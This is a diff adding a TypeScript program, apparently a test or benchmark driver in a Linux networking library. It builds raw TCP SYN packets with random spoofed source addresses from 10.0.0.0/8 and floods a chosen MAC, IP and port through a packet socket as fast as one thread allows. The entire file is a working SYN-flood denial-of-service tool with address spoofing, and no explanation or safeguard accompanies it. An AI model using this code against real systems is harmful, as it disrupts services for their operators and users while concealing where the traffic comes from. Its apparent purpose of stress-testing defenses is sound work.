@@ -1,0 +1,78 @@
+/*
+ * A program: INTERFACE MAC ADDRESS PORT. After "SECONDS" on standard input it sends SYNs to that station, as fast as one thread can, from
+ * addresses of 10.0.0.0/8 at random that are nobody's; then prints {"sent", "seconds"}.
+ */
+import { createInterface } from 'node:readline'
+import { errno, ENOBUFS, mapMemory, sendmmsg, SystemError } from '../../../src/linux/libc.js'
+import { interfaceInfo } from '../../../src/linux/interface.js'
+import { MessageArray } from '../../../src/linux/message-array.js'
+import { bindTo, packetSocket } from '../../../src/linux/packet-socket.js'
+import { parseIpv4, parseMac, type Ipv4Addr } from '../../../src/wire/addr.js'
+import { fold, pseudoHeaderSum, sum16 } from '../../../src/wire/checksum.js'
+import { ETHERNET_LEN, EtherType, EthernetView } from '../../../src/wire/ethernet.js'
+import { DF, IpProtocol, IPV4_MIN_LEN, Ipv4View } from '../../../src/wire/ipv4.js'
+import { TCP_CHECKSUM_AT, TCP_FLAGS_AT, TCP_MIN_LEN, TcpFlag } from '../../../src/wire/tcp.js'
+
+const FRAMES = 2 ** 16
+const BATCH = 256
+const STRIDE = 64
+const TCP_AT = ETHERNET_LEN + IPV4_MIN_LEN
+const FRAME_LEN = TCP_AT + TCP_MIN_LEN
+const SOURCES = parseIpv4('10.0.0.0')!
+const SENDER = parseMac('02:00:00:00:66:66')!
+
+const [name = '', mac = '', address = '', port = ''] = process.argv.slice(2)
+const to = { mac: parseMac(mac)!, addr: parseIpv4(address)!, port: Number(port) }
+const frames = mapMemory(FRAMES * STRIDE)
+for (let i = 0; i < FRAMES; i++) writeSyn(frames.view as DataView, i * STRIDE)
+const fd = packetSocket()
+bindTo(fd, interfaceInfo(name).index, 0, name)
+const batches = Array.from({ length: FRAMES / BATCH }, (_, batch) => batchOf(batch * BATCH))
+
+function writeSyn(view: DataView, at: number): void {
+  const source = (SOURCES + Math.floor(Math.random() * 2 ** 24)) as Ipv4Addr
+  const eth = new EthernetView().wrap(view, at)
+  eth.setDst(to.mac)
+  eth.setSrc(SENDER)
+  eth.type = EtherType.IPV4
+  const ip = new Ipv4View().wrap(view, at + ETHERNET_LEN)
+  ip.build(IpProtocol.TCP, IPV4_MIN_LEN + TCP_MIN_LEN)
+    .withTos(0)
+    .withTtl(64)
+    .withId(1, DF)
+    .finish(source, to.addr)
+  const tcp = at + TCP_AT
+  view.setUint16(tcp, 1024 + Math.floor(Math.random() * 60_000))
+  view.setUint16(tcp + 2, to.port)
+  view.setUint32(tcp + 4, Math.floor(Math.random() * 2 ** 32))
+  view.setUint8(tcp + 12, TCP_MIN_LEN << 2)
+  view.setUint8(tcp + TCP_FLAGS_AT, TcpFlag.SYN)
+  view.setUint16(tcp + 14, 0xffff)
+  const pseudo = pseudoHeaderSum(source, to.addr, IpProtocol.TCP, TCP_MIN_LEN)
+  view.setUint16(tcp + TCP_CHECKSUM_AT, ~fold(sum16(view, tcp, TCP_MIN_LEN, pseudo)))
+}
+
+function batchOf(first: number): MessageArray {
+  const messages = new MessageArray(BATCH)
+  for (let i = 0; i < BATCH; i++) {
+    messages.memory.view.setBigUint64(i * 16, BigInt(frames.address + (first + i) * STRIDE), true)
+    messages.memory.view.setBigUint64(i * 16 + 8, BigInt(FRAME_LEN), true)
+  }
+  return messages
+}
+
+function flood(seconds: number): { sent: number; seconds: number } {
+  const began = performance.now()
+  const end = began + seconds * 1000
+  let sent = 0
+  for (let i = 0; performance.now() < end; i = (i + 1) % batches.length) {
+    const taken: number = sendmmsg(fd, batches[i]!.header(0), BATCH, 0)
+    if (taken > 0) sent += taken
+    else if (errno() !== ENOBUFS) throw new SystemError('sendmmsg')
+  }
+  return { sent, seconds: (performance.now() - began) / 1000 }
+}
+
+for await (const line of createInterface(process.stdin)) {
+  process.stdout.write(`${JSON.stringify(flood(Number(line)))}\n`)
+}
